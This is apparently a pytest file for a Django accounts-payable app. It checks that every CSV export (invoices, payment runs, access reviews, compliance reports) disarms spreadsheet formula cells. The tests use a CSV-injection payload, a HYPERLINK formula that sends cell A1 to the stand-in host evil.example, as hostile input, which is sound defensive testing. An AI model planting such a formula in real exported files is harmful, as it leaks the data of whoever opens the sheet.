"""Every CSV the product writes goes through one writer that disarms cells a spreadsheet would
run as a formula (OWASP CSV injection), plain numbers staying numbers; each writer is tried
with a hostile value."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.utils import timezone

from apps.assurance.access_review import access_review, access_review_csv
from apps.assurance.compliance import monthly_compliance_report
from apps.controls.csvfiles import CsvWriter
from apps.invoices.models import Invoice
from apps.payments.services.runs import payment_run_csv
from apps.suppliers.models import Supplier
from tests.invoices.conftest import approved_invoice
from tests.world import proposed_run

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def _written(*cells: object) -> list[str]:
    out = io.StringIO()
    CsvWriter(out).writerow(cells)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" " + HOSTILE, "' " + HOSTILE),  # leading blanks hide no formula
        ("\n=1+1", "'\n=1+1"),
        (" -12.50", " -12.50"),
        ("-", "'-"),
        ("-12.50", "-12.50"),  # a plain negative number is no formula
        ("+3", "+3"),
        ("-1E+2", "-1E+2"),
        (Decimal("-12.50"), "-12.50"),
        (-7, "-7"),
        ("Contoso GmbH", "Contoso GmbH"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_disarmed_numbers_stay(cell: Any, written: str) -> None:
    assert _written(cell) == [written]


def test_the_invoice_export_disarms_an_erp_value(
    aporg: Any, receive: Any, in_tenant: Any, api_for: Any
) -> None:
    with in_tenant(aporg.tenant):
        invoice = approved_invoice(aporg, receive, "CSV-1")
        Invoice.objects.filter(pk=invoice.pk).update(erp_document_number=HOSTILE[:60])
        Supplier.objects.filter(pk=aporg.supplier.pk).update(erp_reference="@V-1")
    answer = api_for(aporg.tenant, aporg.clerk).get("/api/v1/invoices/export/?format=csv")
    (row,) = csv.DictReader(io.StringIO(answer.content.decode()))
    assert row["erp_document_number"] == "'" + HOSTILE[:60]
    assert row["supplier_erp_reference"] == "'@V-1"
    assert row["total"] == str(invoice.total) and row["description"] == "Laptop stand"


def test_the_payment_run_file_disarms_a_supplier_name(
    aporg: Any, receive: Any, in_tenant: Any
) -> None:
    with in_tenant(aporg.tenant):
        run = proposed_run(aporg, receive, "CSV-PAY-1")
        Supplier.objects.filter(pk=aporg.supplier.pk).update(name="+" + HOSTILE)
        header, row = csv.reader(io.StringIO(payment_run_csv(run)))
    assert row[header.index("supplier")] == "'+" + HOSTILE
    assert row[header.index("invoice_number")] == "CSV-PAY-1"


def test_the_access_review_disarms_an_address(aporg: Any, in_tenant: Any, make_user: Any) -> None:
    user = make_user(aporg.tenant, "-2+3", ["requester"])
    with in_tenant(aporg.tenant):
        rows = list(csv.DictReader(io.StringIO(access_review_csv(access_review()))))
    assert "'" + user.email in [row["email"] for row in rows]
    assert user.email not in [row["email"] for row in rows]


def test_the_control_report_disarms_a_supplier_name(aporg: Any, in_tenant: Any) -> None:
    today = timezone.localdate()
    first_next = (today.replace(day=28) + timedelta(days=4)).replace(day=1)
    frozen = timezone.make_aware(datetime.combine(first_next, datetime.min.time()).replace(hour=3))
    with in_tenant(aporg.tenant):
        Supplier.objects.create(name=HOSTILE, country="GB", status="blocked")
        report = monthly_compliance_report(now=frozen, notify=False)
        assert report is not None
        with default_storage.open(report.csv_file, "rb") as handle:
            rows = list(csv.reader(io.StringIO(handle.read().decode())))
    assert ["supplier_blocked", "'" + HOSTILE, ""] in rows
    assert ["supplier_blocked", HOSTILE, ""] not in rows
